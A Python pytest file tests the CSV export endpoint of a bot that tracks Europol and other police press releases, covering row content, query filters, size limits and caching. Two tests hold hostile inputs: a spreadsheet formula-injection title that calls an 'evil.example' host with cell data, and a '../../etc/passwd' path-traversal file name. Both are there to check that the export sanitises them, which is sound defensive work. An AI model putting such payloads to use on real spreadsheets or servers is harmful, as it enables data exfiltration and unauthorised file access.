"""Spreadsheet exports of coop's tagged releases, downloaded over loopback and read back as a spreadsheet reads CSV."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta

import pytest

from bot.models import Release
from bot.platforms.export import export_route, file_name
from bot.runtime import Runtime
from handlers.context import Deps
from tests.served import fetch, serving


@pytest.fixture
async def export_url(deps: Deps) -> AsyncIterator[str]:
    async with serving("/export.csv", export_route(deps)) as url:
        yield url


def _rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # the byte order mark that makes spreadsheets read UTF-8
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def _release(title: str, number: int = 1) -> Release:
    return Release(id=f"export{number:06d}", source_id="europol", publisher="europol",
                   url=f"https://example.org/r/{number}", title=title,
                   published=datetime(2024, 2, 14, tzinfo=UTC) + timedelta(hours=number),
                   text="Europol supported the investigation. Servers were seized in Germany and the Netherlands.")


async def test_an_export_has_a_row_for_each_release_latest_lists_with_its_tags(export_url: str) -> None:
    status, headers, body = await fetch(export_url, "europol")
    assert status == 200 and headers["content-type"] == "text/csv; charset=utf-8"
    assert headers["content-disposition"] == 'attachment; filename="coop-europol.csv"'
    rows = _rows(body)
    assert [row["title"][:10] for row in rows] == ["Leveraging", "Interpol a"]  # newest first
    moldova = rows[0]
    assert moldova["date"] == "2024-01-30" and moldova["publisher"] == "md-mia" and moldova["language"] == "en"
    assert moldova["agencies"] == "europol; cepol; frontex; european-commission"
    assert moldova["countries"] == "MD" and moldova["countries_mentioned"] == "NL"  # the forum's venue
    assert "drug-trafficking" in moldova["crime_areas"].split("; ") and moldova["cooperation"] == "meeting"
    assert moldova["summary"].startswith("A delegation of the Ministry of Internal Affairs is taking part in the")


async def test_an_export_takes_every_term_latest_takes_and_refuses_what_names_nothing(export_url: str) -> None:
    assert len(_rows((await fetch(export_url, ""))[2])) == 3
    agreements = _rows((await fetch(export_url, "kind:agreement -interpol since:2012"))[2])
    assert [row["title"][:7] for row in agreements] == ["Michèle"]
    status, _, body = await fetch(export_url, "country:atlantis")
    assert status == 400 and "atlantis" in body.decode()
    status, _, body = await fetch(export_url, "europol page:2")
    assert status == 400 and "An export has no pages" in body.decode()


async def test_an_export_that_would_be_cut_is_refused_with_how_to_narrow_it(
    export_url: str, seeded: Runtime, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("handlers.export.EXPORT_SIZE", 4)
    for number in range(1, 3):
        seeded.ingestor.ingest(_release(f"Europol action day {number}", number), announce=False)
    assert len(_rows((await fetch(export_url, "europol"))[2])) == 4  # two seeds and two new releases: all of them
    seeded.ingestor.ingest(_release("Europol action day 3", 3), announce=False)
    status, _, body = await fetch(export_url, "europol")
    assert status == 400 and "since:" in body.decode() and "until:" in body.decode()
    assert len(_rows((await fetch(export_url, "europol since:2024-02"))[2])) == 3


async def test_an_export_holds_every_match_of_a_word_where_lookups_stop_at_the_newest(
    export_url: str, deps: Deps, monkeypatch: pytest.MonkeyPatch
) -> None:
    from handlers.commands.latest import latest_filter
    from handlers.parser import parse

    monkeypatch.setattr("bot.store.dialect.CANDIDATES", 2)  # as 1,000 of 100,000 releases, on a small store
    for number in range(1, 5):
        deps.ingestor.ingest(_release(f"Ransomware servers seized, day {number}", number), announce=False)
    chat_lookup = deps.store.releases.search(latest_filter(parse("latest ransomware"), deps), limit=10)
    assert len(chat_lookup) == 2
    rows = _rows((await fetch(export_url, "ransomware"))[2])
    assert [row["title"][-5:] for row in rows] == ["day 4", "day 3", "day 2", "day 1"]


async def test_feed_text_cannot_become_a_spreadsheet_formula(export_url: str, seeded: Runtime) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Europol report"), with "quotes"\nand a new line'
    seeded.ingestor.ingest(_release(title), announce=False)
    rows = _rows((await fetch(export_url, "europol"))[2])
    assert rows[0]["title"] == "'" + title  # shown as the text it is, not run
    assert rows[0]["id"] == "export000001" and len(rows) == 3  # the quotes and the new line broke no row


async def test_a_client_that_has_the_export_gets_304_until_a_release_comes(export_url: str, seeded: Runtime) -> None:
    _, headers, _ = await fetch(export_url, "europol")
    status, _, body = await fetch(export_url, "europol", {"If-None-Match": headers["etag"]})
    assert status == 304 and body == b""
    seeded.ingestor.ingest(_release("Europol and Eurojust take down a ransomware gang"), announce=False)
    status, _, body = await fetch(export_url, "europol", {"If-None-Match": headers["etag"]})
    assert status == 200 and _rows(body)[0]["title"] == "Europol and Eurojust take down a ransomware gang"


def test_an_export_is_named_after_its_query() -> None:
    assert file_name("europol cybercrime since:2024") == "coop-europol-cybercrime-since-2024.csv"
    assert file_name('"../../etc/passwd"') == "coop-etc-passwd.csv"
    assert file_name("") == "coop.csv"
